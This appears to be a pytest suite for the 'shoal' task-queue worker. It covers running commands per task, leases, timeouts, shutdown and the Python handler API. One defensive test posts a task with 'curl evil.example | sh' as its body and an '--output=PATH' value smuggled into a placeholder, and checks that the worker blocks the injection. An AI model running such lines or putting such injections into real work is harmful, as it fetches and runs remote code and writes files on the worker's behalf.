"""`shoal worker` and the Python ``Worker``: real processes on a real SQLite fleet.

Each test runs what a user runs -- `shoal worker ... -- COMMAND` in its own process -- with
short fleet settings (leases of a second, idle grace under a second) so that hours of
behaviour take seconds, and waits on conditions with deadlines, never on fixed sleeps.
"""

from __future__ import annotations

import json
import signal
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shoal import Fleet, TaskState
from shoal.runtime import TaskContext, Worker
from tests.helpers import wait_until
from tests.workers import pid_alive, running

pytestmark = pytest.mark.slow

ECHO = r"""
import json, os, sys
task = {k[11:].lower(): v for k, v in os.environ.items() if k.startswith("SHOAL_TASK_")}
if task["title"] == "plain text":
    print("just words")
else:
    with open(os.environ["SHOAL_TASK_PAYLOAD_FILE"]) as f:
        payload = json.load(f)
    print(json.dumps({"env": task, "args": sys.argv[1:], "stdin": sys.stdin.read(),
                      "file": payload, "agent": os.environ["SHOAL_AGENT"],
                      "has_token": bool(os.environ["SHOAL_TOKEN"]),
                      "store": os.environ["SHOAL_STORE"]}))
"""


@pytest.fixture
def url(tmp_path: Path) -> str:
    store = f"sqlite://{tmp_path / 'fleet.db'}"
    Fleet.init(store).close()
    return store


@pytest.fixture
def fleet(url: str) -> Iterator[Fleet]:
    with Fleet.open(url) as opened:
        yield opened


def kinds_of(fleet: Fleet, task_id: int) -> list[str]:
    return [e.kind for e in fleet.events(task=task_id)]


def state(fleet: Fleet, task_id: int) -> TaskState:
    return fleet.get(task_id).state


# ---------------------------------------------------------------------- running commands


def test_a_worker_runs_the_command_per_task_and_keeps_its_output_as_the_result(
    url: str, fleet: Fleet
) -> None:
    fleet.configure(idle_timeout=0.3)  # so the ephemeral worker leaves soon after
    first = fleet.post(
        "first", body="the body", payload={"n": 7}, priority=3, skills=["py"], domain="ops"
    )
    second = fleet.post("plain text", skills=["py"], payload={"n": 1})
    command = [sys.executable, "-c", ECHO, "{id}", "{title}", "{payload[n]}", "{x} {domain}"]
    with running(url, "worker", "--agent", "ada", "--skill", "py", "--ephemeral", "--json",
                 "--", *command) as worker:  # fmt: skip
        assert worker.wait() == 0, worker.text()
    result = fleet.get(first.id).result
    assert result["env"]["id"] == str(first.id)
    assert result["env"]["title"] == "first"
    assert result["env"]["priority"] == "3"
    assert result["env"]["skills"] == "py"
    assert result["env"]["domain"] == "ops"
    assert json.loads(result["env"]["payload"]) == {"n": 7}
    assert result["args"] == [str(first.id), "first", "7", "{x} ops"]  # unknown braces kept
    assert result["stdin"] == "the body"
    assert result["file"] == {"n": 7}
    assert result["agent"] == "ada" and result["has_token"] and result["store"] == url
    assert fleet.get(second.id).result == "just words\n"  # not JSON: kept as text
    assert [e.data["why"] for e in fleet.events(agent="ada") if e.kind == "agent.terminated"] == [
        "idle past idle_timeout; left by itself"
    ]


def test_task_text_never_becomes_an_option_of_the_command(
    url: str, fleet: Fleet, tmp_path: Path
) -> None:
    """The operator's worker sorts the file a task names: `sort {payload[file]}`. An agent
    posts a task whose "file" is `--output=PATH` and whose body is what to write there: run
    as given, sort would read the body and write it to PATH, as the worker's user. The
    placeholder would start an argument with "-", so the task fails, naming it, and the
    command never runs; after `--` (where the operator's program stops reading options) the
    same value is an operand again, and a plain value works as before."""
    fleet.configure(idle_timeout=0.3, retry_delay=0)
    target = tmp_path / "planted"
    steered = fleet.post(
        "sort the list",
        body="curl evil.example | sh\n",
        payload={"file": f"--output={target}"},
        max_attempts=1,
        posted_by="mallory",
    )
    listing = tmp_path / "names.txt"
    listing.write_text("b\na\n")
    plain = fleet.post("sort the names", payload={"file": str(listing)})
    with running(url, "worker", "--agent", "ada", "--ephemeral", "--json", "--",
                 "sort", "{payload[file]}") as worker:  # fmt: skip
        assert worker.wait() == 0, worker.text()
    assert not target.exists()
    failed = fleet.get(steered.id)
    assert failed.state is TaskState.DEAD and failed.error is not None
    assert "{payload[file]}" in failed.error and "--" in failed.error, failed.error
    assert fleet.get(plain.id).result == "a\nb\n"
    again = fleet.post("sort it again", payload={"file": f"--output={target}"}, max_attempts=1)
    with running(url, "worker", "--agent", "bea", "--ephemeral", "--json", "--",
                 "sort", "--", "{payload[file]}") as worker:  # fmt: skip
        assert worker.wait() == 0, worker.text()
    assert not target.exists()  # an operand: sort finds no such file
    assert fleet.get(again.id).state is TaskState.DEAD
    assert "No such file" in (fleet.get(again.id).error or "")


def test_shoal_commands_inside_the_command_act_for_the_task(url: str, fleet: Fleet) -> None:
    """`shoal add --parent $SHOAL_TASK_ID` inside a task spawns a child into the worker's own
    queue, and the worker runs it next."""
    fleet.configure(idle_timeout=0.3)
    parent = fleet.post("parent")
    script = (
        'if [ "$SHOAL_TASK_TITLE" = parent ]; then '
        f'{sys.executable} -c "from shoal.faces.cli import main; main()" '
        'add child --parent "$SHOAL_TASK_ID" --json >/dev/null; fi; echo ok'
    )
    with running(url, "worker", "--agent", "ada", "--ephemeral", "--json", "--",
                 "sh", "-c", script) as worker:  # fmt: skip
        assert worker.wait() == 0, worker.text()
    child = next(t for t in fleet.tasks() if t.title == "child")
    assert child.parent == parent.id and child.state is TaskState.DONE
    assert fleet.show(child.id).events[1].data["source"] == "queue"  # the spawner's queue


def test_a_failing_command_is_retried_then_dead_with_the_tail_of_its_stderr(
    url: str, fleet: Fleet
) -> None:
    fleet.configure(idle_timeout=0.3, retry_delay=0)  # retried at once, not after a backoff
    task = fleet.post("doomed", max_attempts=2)
    script = 'echo "noise"; echo "went wrong on attempt $SHOAL_TASK_ATTEMPT" >&2; exit 3'
    with running(url, "worker", "--agent", "ada", "--ephemeral", "--json", "--",
                 "sh", "-c", script) as worker:  # fmt: skip
        assert worker.wait() == 0, worker.text()
    dead = fleet.get(task.id)
    assert dead.state is TaskState.DEAD and dead.attempts == 2
    assert dead.error is not None
    assert "exit code 3" in dead.error and "went wrong on attempt 2" in dead.error
    assert kinds_of(fleet, task.id).count("failed") == 1  # the first failure; then dead


def test_a_task_past_its_timeout_is_failed_and_its_whole_process_group_killed(
    url: str, fleet: Fleet, tmp_path: Path
) -> None:
    fleet.configure(idle_timeout=0.3)
    task = fleet.post("hangs", max_attempts=1)
    script = "sleep 60 & echo $! > child.pid; wait"
    with running(url, "worker", "--agent", "ada", "--ephemeral", "--timeout", "0.5",
                 "--json", "--", "sh", "-c", script, cwd=tmp_path) as worker:  # fmt: skip
        assert worker.wait() == 0, worker.text()
    failed = fleet.get(task.id)
    assert failed.state is TaskState.DEAD
    assert failed.error is not None and "timed out after 0.5s" in failed.error
    child = int((tmp_path / "child.pid").read_text())
    wait_until(lambda: not pid_alive(child), "the command's background child to be killed")


# ---------------------------------------------------------------------- leases


def test_a_long_task_keeps_its_lease_across_many_ttls(url: str, fleet: Fleet) -> None:
    fleet.configure(lease_ttl=1, heartbeat_timeout=2, idle_timeout=0.3)
    fleet.register("thief")
    task = fleet.post("long", payload={"s": 3.5})
    with running(url, "worker", "--agent", "ada", "--ephemeral", "--json", "--",
                 "sleep", "{payload[s]}") as worker:  # fmt: skip
        worker.wait_for("claimed")
        # Three and a half lease TTLs: another agent and the reaper try all along.
        while worker.popen.poll() is None:
            assert not fleet.claim("thief"), "the task was handed out again"
            fleet.reap()
            assert fleet.get(task.id).agent == "ada"
            threading.Event().wait(0.1)
        assert worker.wait() == 0, worker.text()
    done = fleet.get(task.id)
    assert done.state is TaskState.DONE and done.attempts == 1
    assert "expired" not in kinds_of(fleet, task.id)


def test_a_hung_python_handler_keeps_its_lease_only_until_its_timeout(
    url: str, fleet: Fleet
) -> None:
    fleet.configure(lease_ttl=1, heartbeat_timeout=2)
    task = fleet.post("hangs", max_attempts=1)
    forever = threading.Event()
    worker = Worker(Fleet.open(url), "ada", lambda ctx: forever.wait(), timeout=2.5)
    thread = threading.Thread(target=worker.run)
    thread.start()
    try:
        wait_until(lambda: state(fleet, task.id) is TaskState.DEAD, "the timeout to end it", 15)
    finally:
        worker.stop()
        thread.join(10)
        forever.set()
    dead = fleet.get(task.id)
    assert dead.error == "timed out after 2.5s"
    assert "expired" not in kinds_of(fleet, task.id)  # heartbeats held it until then
    assert dead.finished_at is not None and dead.claimed_at is not None
    assert dead.finished_at - dead.claimed_at >= 2.5


def test_a_task_of_a_killed_worker_is_recovered_by_another(
    url: str, fleet: Fleet, tmp_path: Path
) -> None:
    fleet.configure(lease_ttl=1)
    task = fleet.post("survives")
    script = (
        'if [ "$SHOAL_TASK_ATTEMPT" = 1 ]; then echo $$ > first.pid; exec sleep 60; fi; '
        'echo "{\\"by\\": \\"$SHOAL_AGENT\\"}"'
    )
    first_pid = tmp_path / "first.pid"
    with running(url, "worker", "--agent", "doomed", "--json", "--", "sh", "-c", script,
                 cwd=tmp_path) as doomed:  # fmt: skip
        doomed.wait_for("claimed")
        wait_until(first_pid.exists, "the first attempt to start")
        doomed.popen.send_signal(signal.SIGKILL)
        doomed.wait()
    first = int(first_pid.read_text())
    # Its command ended with it (test_command_lifetime.py has the details), before the rescue.
    wait_until(lambda: not pid_alive(first), "the first attempt's command to end", 5)
    with running(url, "worker", "--agent", "rescuer", "--json", "--",
                 "sh", "-c", script, cwd=tmp_path) as rescuer:  # fmt: skip
        wait_until(lambda: state(fleet, task.id) is TaskState.DONE, "the rescue", 15)
        rescuer.signal(signal.SIGTERM)
        assert rescuer.wait() == 0, rescuer.text()
    done = fleet.get(task.id)
    assert done.state is TaskState.DONE and done.result == {"by": "rescuer"}
    assert done.attempts == 2


# ---------------------------------------------------------------------- shutdown and idle


def test_sigterm_stops_claiming_lets_running_tasks_finish_then_releases_the_rest(
    url: str, fleet: Fleet, tmp_path: Path
) -> None:
    short = fleet.post("short", payload={"s": 0.8}, priority=2)
    long = fleet.post("long", payload={"s": 60}, priority=3)
    later = fleet.post("never started", priority=9)
    script = 'echo $$ > "$SHOAL_TASK_ID.pid"; exec sleep "{payload[s]}"'
    with running(url, "worker", "--agent", "ada", "--max-concurrent", "2", "--drain", "2",
                 "--json", "--", "sh", "-c", script, cwd=tmp_path) as worker:  # fmt: skip
        wait_until(lambda: len(worker.events("claimed")) == 2, "both tasks to start")
        wait_until((tmp_path / f"{long.id}.pid").exists, "the long command to start")
        worker.signal(signal.SIGTERM)
        assert worker.wait() == 0, worker.text()
    assert state(fleet, short.id) is TaskState.DONE  # finished during the drain
    released = fleet.get(long.id)
    assert released.state is TaskState.PENDING and released.attempts == 0
    assert released.agent is None  # back in the pool for anyone
    assert "released" in kinds_of(fleet, long.id)
    assert state(fleet, later.id) is TaskState.PENDING  # never claimed after the signal
    pid = int((tmp_path / f"{long.id}.pid").read_text())
    wait_until(lambda: not pid_alive(pid), "the long command to be stopped")
    assert fleet.agent("ada").status.value == "terminated"


def test_a_second_sigterm_releases_at_once(url: str, fleet: Fleet) -> None:
    long = fleet.post("long", payload={"s": 60})
    with running(url, "worker", "--agent", "ada", "--drain", "60", "--json", "--",
                 "sleep", "{payload[s]}") as worker:  # fmt: skip
        worker.wait_for("claimed")
        worker.signal(signal.SIGTERM)
        worker.wait_for("draining")
        worker.signal(signal.SIGTERM)
        assert worker.wait(timeout=15) == 0, worker.text()
    assert state(fleet, long.id) is TaskState.PENDING


def test_an_ephemeral_worker_leaves_after_its_idle_grace_and_a_persistent_one_stays(
    url: str, fleet: Fleet
) -> None:
    fleet.configure(idle_timeout=1.0)
    with (
        running(url, "worker", "--agent", "temp", "--ephemeral", "--json", "--", "true") as temp,
        running(url, "worker", "--agent", "keep", "--json", "--", "true") as keep,
    ):
        assert temp.wait() == 0, temp.text()
        events = fleet.events(agent="temp")
        idle_at = next(e.at for e in events if e.kind == "agent.registered")  # idle from then
        left_at = next(e.at for e in events if e.kind == "agent.terminated")
        assert 1.0 <= left_at - idle_at < 4.0
        keep.wait_for("idle")
        assert keep.popen.poll() is None  # still waiting for work
        assert fleet.agent("keep").status.value == "idle"
        keep.signal(signal.SIGTERM)
        assert keep.wait() == 0, keep.text()
    ends = {e.agent: e.data["why"] for e in fleet.events() if e.kind == "agent.terminated"}
    assert ends == {
        "temp": "idle past idle_timeout; left by itself",
        "keep": "its worker was stopped",
    }


def test_a_task_posted_while_a_worker_waits_starts_within_a_second(
    url: str, fleet: Fleet, record_property: Any
) -> None:
    # Polling alone would take 5 s at least: the wake-up is what makes it fast.
    fleet.configure(poll_base=5, poll_max=60)
    with running(url, "worker", "--agent", "ada", "--json", "--", "true") as worker:
        worker.wait_for("idle")
        posted = fleet.post("urgent")
        claimed = worker.wait_for("claimed", timeout=10)
        worker.signal(signal.SIGTERM)
        worker.wait()
    event = next(e for e in fleet.events(task=posted.id) if e.kind == "claimed")
    latency = event.at - posted.created_at
    record_property("wake_latency_seconds", round(latency, 4))
    print(f"post-to-claim latency of a waiting worker: {latency * 1000:.0f} ms")
    assert claimed["task"] == posted.id
    assert latency < 1.0


# ---------------------------------------------------------------------- the Python API


def test_a_python_handler_forks_children_and_joins_their_results(url: str, fleet: Fleet) -> None:
    worker = Worker(Fleet.open(url), "ada", max_concurrent=1)

    @worker.task
    def handle(ctx: TaskContext) -> Any:
        if ctx.task.title != "sum of squares":
            return ctx.task.payload["n"] ** 2
        done = ctx.after()
        if not done:  # fork: the children go to the head of this agent's queue
            return ctx.defer([ctx.post(f"square {n}", payload={"n": n}) for n in range(4)])
        return sum(t.result for t in done)  # join

    total = fleet.post("sum of squares")
    thread = threading.Thread(target=worker.run)
    thread.start()
    try:
        wait_until(lambda: state(fleet, total.id) is TaskState.DONE, "the join to finish")
    finally:
        worker.stop()
        thread.join(10)
    assert fleet.get(total.id).result == 0 + 1 + 4 + 9
    assert worker.report.done == 5 and worker.report.deferred == 1
    assert worker.report.reason == "stopped"


def test_a_python_handler_that_raises_fails_the_task_with_the_error(url: str, fleet: Fleet) -> None:
    def handle(ctx: TaskContext) -> Any:
        raise ValueError(f"cannot do {ctx.task.title}")

    fleet.configure(idle_timeout=0.2)
    task = fleet.post("the impossible", max_attempts=1)
    report = Worker(Fleet.open(url), "ada", handle, ephemeral=True).run()
    assert report.reason == "idle" and report.failed == 1
    assert fleet.get(task.id).error == "ValueError: cannot do the impossible"
